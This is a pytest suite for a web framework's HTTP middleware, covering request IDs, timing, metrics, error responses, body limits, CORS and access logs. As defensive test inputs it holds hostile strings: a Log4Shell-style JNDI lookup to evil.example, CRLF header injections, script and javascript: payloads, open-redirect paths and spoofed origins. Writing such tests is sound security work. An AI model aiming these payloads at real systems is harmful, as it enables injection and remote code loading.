"""What every request passes, seen from outside."""

import dataclasses
import itertools
import json
import logging
import uuid
from collections.abc import AsyncIterator, Callable
from functools import partial
from unittest.mock import AsyncMock, Mock

import httpx
import pytest
from prometheus_client import REGISTRY
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route
from starlette.types import ASGIApp, Receive, Scope, Send

from groundwork.core.config import Settings
from groundwork.core.http import middleware
from groundwork.core.http.body_limit import MAX_BODY_BYTES, BodyLimit
from groundwork.core.http.middleware import RequestContext
from groundwork.core.http.problems import ErrorBoundary, problem
from groundwork.core.observability.logging import request_id
from groundwork.core.state import State

ORIGIN = "https://app.example"


async def boom(_: Request) -> Response:
    """Fail with a text that nobody outside may see."""
    logging.getLogger("shop").warning("about to fail")
    message = "hunter2"
    raise RuntimeError(message)


async def echo(request: Request) -> Response:
    """Answer the length of the body."""
    return JSONResponse(len(await request.body()))


class Half:
    """An endpoint that fails in the middle of its answer."""

    async def __call__(self, _scope: Scope, _receive: Receive, send: Send) -> None:
        """Answer half."""
        await send({"type": "http.response.start", "status": 200, "headers": []})
        message = "hunter2"
        raise RuntimeError(message)


class Bare:
    """An endpoint that is ASGI, as Route takes it where it is no function."""

    def __init__(self, call: ASGIApp) -> None:
        self.call = call

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        """Answer as told."""
        await self.call(scope, receive, send)


@pytest.fixture
def settings(request: pytest.FixtureRequest, settings: Settings) -> Settings:
    """Give settings that let one origin in, changed by the test's parameter."""
    changes = {"cors_allow_origins": (ORIGIN,)} | getattr(request, "param", {})
    return dataclasses.replace(settings, **changes)


@pytest.fixture
def app(app: Starlette) -> Starlette:
    """Give the application with routes that misbehave."""
    app.router.routes += [
        Route("/boom", boom),
        Route("/echo", echo),
        Route("/echo", echo, methods=["POST"]),
        Route("/half", Half()),
    ]
    return app


@pytest.mark.parametrize("given", ["a", "A-Z.0_9:+/=@-", "x" * 128])
async def test_a_good_request_id_is_kept(client: httpx.AsyncClient, given: str) -> None:
    """The caller's id comes back."""
    response = await client.get("/health/live", headers={"X-Request-ID": given})

    assert response.headers["x-request-id"] == given


@pytest.mark.parametrize(
    "given",
    [
        b"",
        b" ",
        b"x" * 129,
        b'a"b\xff{}',
        b"a b",
        b"a\tb",
        "é".encode(),
        b"\xd9\xa3",  # a digit three, an Arabic one
        b"a;b",
        b"a\x00",
        b"a\r\nSet-Cookie: b=c",
        b"a\n",
        b'"}\n{"level":"ERROR"}',
        b"\x1b[31ma",
        b"<script>alert(1)</script>",
        b"${jndi:ldap://evil.example/a}",
        b"%0d%0a",
    ],
)
async def test_a_bad_request_id_is_replaced(
    client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture, given: bytes
) -> None:
    """An id that is not fit for a log is neither echoed nor logged."""
    caplog.set_level(logging.DEBUG)
    response = await client.get("/nowhere", headers={b"X-Request-ID": given})

    assert uuid.UUID(response.headers["x-request-id"]).version == 4
    assert response.json()["request_id"] == response.headers["x-request-id"]
    assert not given.strip() or given.decode("latin-1") not in caplog.text


async def test_of_several_request_ids_one_counts(client: httpx.AsyncClient) -> None:
    """Given twice, the header comes back once, with an id that was fit for it."""
    given = [(b"X-Request-ID", value) for value in (b"good", b"<bad>")]
    response = await client.get("/health/live", headers=given)

    assert response.headers.get_list("x-request-id") == ["good"]


async def test_each_request_gets_an_id_of_its_own(client: httpx.AsyncClient) -> None:
    """Without one from the caller, ids differ."""
    ids = {(await client.get("/health/live")).headers["x-request-id"] for _ in range(3)}

    assert len(ids) == 3
    assert request_id.get() is None


async def test_server_timing_has_milliseconds(client: httpx.AsyncClient) -> None:
    """In development Server-Timing has the duration in milliseconds, on errors as well."""
    response = await client.get("/boom")

    name, _, value = response.headers["server-timing"].partition(";dur=")
    assert name == "app"
    assert float(value) > 0


@pytest.mark.parametrize("settings", [{"environment": "production"}], indirect=True)
async def test_server_timing_is_for_development(client: httpx.AsyncClient) -> None:
    """Outside development no response tells how long it took."""
    assert "server-timing" not in (await client.get("/nowhere")).headers


@pytest.fixture
def clock(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let 1.1234 ms pass between two looks at the clock."""
    looks = itertools.count(1, 0.0011234).__next__
    monkeypatch.setattr(middleware, "time", Mock(perf_counter=looks))


def sample(name: str, **labels: str) -> float:
    """Return one sample of the metrics, 0 where there is none yet."""
    return REGISTRY.get_sample_value(name, labels) or 0.0


@pytest.mark.usefixtures("clock")
@pytest.mark.parametrize(
    ("method", "path", "labels"),
    [
        ("GET", "/health/live", ("GET", "/health/live", "200")),
        ("GET", "/echo", ("GET", "/echo", "200")),
        ("GET", "/nowhere", ("GET", "", "404")),
        ("BREW", "/nowhere", ("_OTHER", "", "404")),
        ("POST", "/health/live", ("POST", "/health/live", "405")),
    ],
)
async def test_requests_are_timed_by_method_route_and_status(
    client: httpx.AsyncClient, method: str, path: str, labels: tuple[str, str, str]
) -> None:
    """The duration in seconds counts under the route's template, none for an unknown path."""
    name = "http_server_request_duration_seconds_sum"
    names = ("http_request_method", "http_route", "http_response_status_code")
    before = sample(name, **dict(zip(names, labels, strict=True)))
    response = await client.request(method, path)
    after = sample(name, **dict(zip(names, labels, strict=True)))

    assert response.headers["server-timing"] == "app;dur=1.123"
    assert after - before == pytest.approx(2 * 0.0011234)


@pytest.mark.parametrize(
    "layer",
    [
        partial(RequestContext, lifecycle=Mock(), probes={}),
        partial(ErrorBoundary, debug=False),
        BodyLimit,
    ],
)
async def test_what_is_no_request_passes_as_it_is(layer: Callable[[ASGIApp], ASGIApp]) -> None:
    """The server's own words with the application, of its start and its end, are not ours."""
    app, receive, send = AsyncMock(), AsyncMock(), AsyncMock()

    await layer(app)({"type": "lifespan"}, receive, send)

    app.assert_awaited_once_with({"type": "lifespan"}, receive, send)


async def test_requests_in_flight_are_counted(app: Starlette, client: httpx.AsyncClient) -> None:
    """Each counts from its beginning to its end, with a response without headers as well."""
    active = partial(
        sample, "http_server_active_requests", http_request_method="GET", url_scheme="http"
    )

    async def count(_scope: Scope, _receive: Receive, send: Send) -> None:
        counts.append(active())
        if len(counts) < 3:
            await client.get("/count")
        await send({"type": "http.response.start", "status": 200})
        await send({"type": "http.response.body", "body": b""})

    counts: list[float] = []
    app.router.routes.append(Route("/count", Bare(count)))

    response = await client.get("/count")

    assert (counts, active()) == ([1, 2, 3], 0)
    assert response.headers["x-request-id"]


async def test_an_exception_is_answered_as_a_problem(client: httpx.AsyncClient) -> None:
    """A 500 is JSON, has the id, lets the browser read it, and keeps its secret."""
    response = await client.get("/boom", headers={"Origin": ORIGIN, "X-Request-ID": "abc"})

    assert response.status_code == 500
    assert response.headers["content-type"] == "application/problem+json"
    assert response.headers["access-control-allow-origin"] == ORIGIN
    assert response.headers["x-request-id"] == "abc"
    assert response.json() == {
        "type": "about:blank",
        "title": "Internal Server Error",
        "status": 500,
        "detail": "An unexpected error.",
        "instance": "/boom",
        "request_id": "abc",
    }


@pytest.mark.parametrize("settings", [{"debug": True}], indirect=True)
async def test_debug_shows_the_traceback(client: httpx.AsyncClient) -> None:
    """With DEBUG the response is the traceback, as a page for a browser and as text for others."""
    text = await client.get("/boom")
    page = await client.get("/boom", headers={"Accept": "text/html"})

    assert text.headers["content-type"] == "text/plain; charset=utf-8"
    assert text.text.endswith("RuntimeError: hunter2\n")
    assert page.headers["content-type"] == "text/html; charset=utf-8"
    assert "hunter2" in page.text


async def test_an_exception_is_logged_once(
    client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture
) -> None:
    """One traceback, and one access line at ERROR."""
    await client.get("/boom")

    errors = [entry for entry in caplog.records if entry.levelno == logging.ERROR]
    assert [bool(entry.exc_info) for entry in errors] == [True, False]


@pytest.mark.usefixtures("app")
async def test_an_exception_in_mid_answer_is_logged(
    service: RequestContext, caplog: pytest.LogCaptureFixture
) -> None:
    """When the answer has begun nothing is added to it; the log has the exception."""
    scope = {"type": "http", "method": "GET", "path": "/half", "headers": []}
    send = AsyncMock()
    await service(scope, AsyncMock(), send)

    assert [call.args[0]["type"] for call in send.await_args_list] == ["http.response.start"]
    assert "unhandled exception" in caplog.messages


@pytest.mark.parametrize("path", ["/nowhere", "/health/live/", "/health"])
async def test_unknown_paths_are_problems(client: httpx.AsyncClient, path: str) -> None:
    """A trailing slash is another path, and no redirect."""
    response = await client.get(path)

    assert response.status_code == 404
    assert response.json()["title"] == "Not Found"


@pytest.mark.parametrize(
    ("path", "instance"),
    [
        ("//evil.example/x", "/evil.example/x"),
        ("///evil.example", "/evil.example"),
        ("//X/", "/X/"),
        ("/\\evil.example", "/%5Cevil.example"),
        ('/"><script>', "/%22%3E%3Cscript%3E"),
        ("/\r\nX-Evil: 1", "/%0D%0AX-Evil%3A%201"),
        ("/javascript:alert(1)", "/javascript%3Aalert%281%29"),
        ("*", "/%2A"),
    ],
)
def test_a_problem_names_no_other_host(path: str, instance: str) -> None:
    """Its instance is a path here: // would begin the name of a host (RFC 3986, 4.2)."""
    body = problem({"type": "http", "path": path}, 404, "Not Found").body

    assert json.loads(bytes(body))["instance"] == instance


async def test_wrong_methods_are_told_the_right_ones(client: httpx.AsyncClient) -> None:
    """405 comes with Allow."""
    response = await client.post("/health/live")

    assert response.status_code == 405
    assert set(response.headers["allow"].split(", ")) == {"GET", "HEAD"}
    assert response.json()["title"] == "Method Not Allowed"


async def test_a_path_with_several_routes_allows_what_all_of_them_do(
    client: httpx.AsyncClient,
) -> None:
    """Allow is the path's, whichever of its routes the router saw first (RFC 9110, 15.5.6)."""
    response = await client.delete("/echo")

    assert response.status_code == 405
    assert response.headers["allow"] == "GET, HEAD, POST"


async def in_chunks(size: int) -> AsyncIterator[bytes]:
    """Give a body without saying how long it is."""
    for _ in range(size // 1024):
        yield b"x" * 1024
    yield b"x" * (size % 1024)


@pytest.mark.parametrize("size", [0, MAX_BODY_BYTES])
async def test_bodies_up_to_the_limit_pass(client: httpx.AsyncClient, size: int) -> None:
    """A body of exactly 1 MiB is read, with its length told or not."""
    told = await client.post("/echo", content=b"x" * size)
    untold = await client.post("/echo", content=in_chunks(size))

    assert (told.json(), untold.json()) == (size, size)


async def test_bodies_over_the_limit_are_refused(client: httpx.AsyncClient) -> None:
    """One byte more is 413, with its length told or not, and ends the connection."""
    told = await client.post("/echo", content=b"x" * (MAX_BODY_BYTES + 1))
    untold = await client.post("/echo", content=in_chunks(MAX_BODY_BYTES + 1))

    for response in (told, untold):
        assert response.status_code == 413
        assert response.headers["connection"] == "close"
        assert response.json()["detail"] == "The request body is larger than 1 MiB."


@pytest.mark.parametrize(
    ("told", "status"),
    [
        (b"0" * 5000 + b"5", 200),
        (b"0" * 30 + b"2000000", 413),
        (b"9" * 5000, 413),
        (b"%d" % (MAX_BODY_BYTES + 1), 413),
        (b"-1", 200),
        (b"+5", 200),
        (b"5, 5", 200),
        (b"", 200),
        (b"\xb2", 200),
        (b"\xd9\xa5", 200),  # a digit five, an Arabic one
    ],
)
async def test_a_strange_length_breaks_nothing(
    client: httpx.AsyncClient, told: bytes, status: int
) -> None:
    """What a server lets through as Content-Length is no reason for a 500."""
    response = await client.post("/echo", content=b"12345", headers={b"Content-Length": told})

    assert response.status_code == status
    assert status == 413 or response.json() == 5


async def test_a_length_that_lies_gets_nobody_past_the_limit(client: httpx.AsyncClient) -> None:
    """The bytes that come count, not the few that were told."""
    body = b"x" * (MAX_BODY_BYTES + 1)
    response = await client.post("/echo", content=body, headers={"Content-Length": "5"})

    assert response.status_code == 413


async def test_cors_for_the_origins_configured(client: httpx.AsyncClient) -> None:
    """One origin is let in, another is not."""
    ours = await client.get("/echo", headers={"Origin": ORIGIN})
    other = await client.get("/echo", headers={"Origin": "https://evil.example"})

    assert ours.headers["access-control-allow-origin"] == ORIGIN
    assert "access-control-allow-origin" not in other.headers


@pytest.mark.parametrize(
    ("settings", "allowed"),
    [({"cors_allow_origins": ()}, None), ({"cors_allow_origins": (), "debug": True}, "*")],
    indirect=["settings"],
)
async def test_cors_where_none_is_configured(
    client: httpx.AsyncClient, allowed: str | None
) -> None:
    """No other origin is let in, and with DEBUG all are."""
    response = await client.get("/echo", headers={"Origin": ORIGIN})

    assert response.headers.get("access-control-allow-origin") == allowed


async def test_a_page_of_ours_may_ask_and_read(client: httpx.AsyncClient) -> None:
    """It sends what methods and headers it likes, and sees ours beside what CORS lets it see."""
    wanted = {"Access-Control-Request-Method": "PUT", "Access-Control-Request-Headers": "X-Own"}
    preflight = await client.options("/echo", headers={"Origin": ORIGIN} | wanted)
    response = await client.get("/echo", headers={"Origin": ORIGIN})

    assert preflight.status_code == 200
    assert set(response.headers["access-control-expose-headers"].split(", ")) == {
        "Location",
        "Retry-After",
        "Server-Timing",
        "X-Request-ID",
    }


@pytest.mark.parametrize("path", ["/health/live", "/health/ready"])
async def test_a_probe_does_not_reach_the_application(
    service: RequestContext, client: httpx.AsyncClient, path: str
) -> None:
    """Probes are served in front of middleware and router, whatever headers they have."""
    service.app.router.routes.clear()
    plain = await client.get(path)
    other = await client.get(path, headers={"Origin": ORIGIN, "Content-Length": "9999999"})
    head = await client.head(path)

    assert plain.status_code == other.status_code == head.status_code == 200
    assert plain.json() == other.json() == {"status": "ok"}
    assert plain.headers.keys() == other.headers.keys() == head.headers.keys()


async def test_a_shared_response_keeps_no_header(client: httpx.AsyncClient) -> None:
    """The headers of one probe's response are not in the next one's."""
    responses = [await client.get("/health/live") for _ in range(3)]

    assert [len(one.headers.get_list("x-request-id")) for one in responses] == [1, 1, 1]


async def test_a_probe_closes_its_connection_in_the_drain(
    client: httpx.AsyncClient, state: State, service: RequestContext
) -> None:
    """Readiness that has been told to drain is 503 at once, and closes the connection."""
    service.lifecycle.draining = True
    state["readiness"].drain()
    response = await client.get("/health/ready")

    assert response.json() == {"status": "unavailable", "reason": "draining"}
    assert response.headers["connection"] == "close"


@pytest.mark.parametrize(
    "origin",
    [
        "null",
        "*",
        "",
        f"{ORIGIN}/",
        f"{ORIGIN}:444",
        f"{ORIGIN}.evil.example",
        f"https://evil.example#{ORIGIN}",
        f"https://evil.example, {ORIGIN}",
        f"{ORIGIN} https://evil.example",
        f"{ORIGIN}\r\nX-Evil: 1",
        ORIGIN.replace("https", "http"),
        ORIGIN.upper(),
    ],
)
async def test_cors_for_no_other_origin(client: httpx.AsyncClient, origin: str) -> None:
    """What only looks like an origin of ours is let in by neither answer, credentials never."""
    headers = {"Origin": origin, "Access-Control-Request-Method": "GET"}
    preflight = await client.options("/echo", headers=headers)
    simple = await client.get("/echo", headers=headers)

    assert preflight.status_code == 400
    for response in (preflight, simple):
        assert "access-control-allow-origin" not in response.headers
        assert "access-control-allow-credentials" not in response.headers


async def test_preflight_has_an_id_too(client: httpx.AsyncClient) -> None:
    """A preflight is answered outside the routes, with the id all the same."""
    headers = {"Origin": ORIGIN, "Access-Control-Request-Method": "GET"}
    response = await client.options("/echo", headers=headers)

    assert response.status_code == 200
    assert "x-request-id" in response.headers


@pytest.mark.usefixtures("clock")
async def test_the_access_line(client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture) -> None:
    """One line a request: method, path, status, duration and client."""
    caplog.set_level(logging.INFO)
    await client.get("/nowhere?token=hunter2")

    (entry,) = [entry for entry in caplog.records if entry.name == "groundwork.access"]
    fields = vars(entry)
    assert (fields["method"], fields["path"], fields["status"]) == ("GET", "/nowhere", 404)
    assert fields["duration_ms"] == 2.247
    assert fields["client"] == "127.0.0.1"
    assert entry.getMessage() == "GET /nowhere 404"


@pytest.mark.parametrize("path", ["/health/live", "/health/ready", "/"])
async def test_what_asks_all_the_time_is_quiet(
    client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture, path: str
) -> None:
    """A probe that is answered leaves its line at DEBUG, and so does the status page."""
    caplog.set_level(logging.DEBUG)
    await client.get(path)

    (entry,) = [entry for entry in caplog.records if entry.name == "groundwork.access"]
    assert entry.levelno == logging.DEBUG


@pytest.mark.parametrize(
    ("path", "level"), [("/echo", "INFO"), ("/nowhere", "INFO"), ("/boom", "ERROR")]
)
async def test_what_asks_now_and_then_is_not(
    client: httpx.AsyncClient, caplog: pytest.LogCaptureFixture, path: str, level: str
) -> None:
    """Any other request leaves its line, answered well or not."""
    caplog.set_level(logging.INFO)
    await client.get(path)

    (entry,) = [entry for entry in caplog.records if entry.name == "groundwork.access"]
    assert entry.levelname == level


@pytest.mark.usefixtures("app")
async def test_a_client_that_leaves(
    service: RequestContext, caplog: pytest.LogCaptureFixture
) -> None:
    """A client that leaves in the middle of its body is 499 in the log, and no error."""
    caplog.set_level(logging.INFO)
    scope: Scope = {
        "type": "http",
        "method": "POST",
        "path": "/echo",
        "headers": [],
        "client": None,
    }

    async def receive() -> dict[str, str]:
        return {"type": "http.disconnect"}

    async def send(_: object) -> None:
        pytest.fail("an answer to nobody")

    await service(scope, receive, send)

    assert [vars(entry).get("status") for entry in caplog.records] == [None, 499]
    assert {entry.levelno for entry in caplog.records} == {logging.INFO}
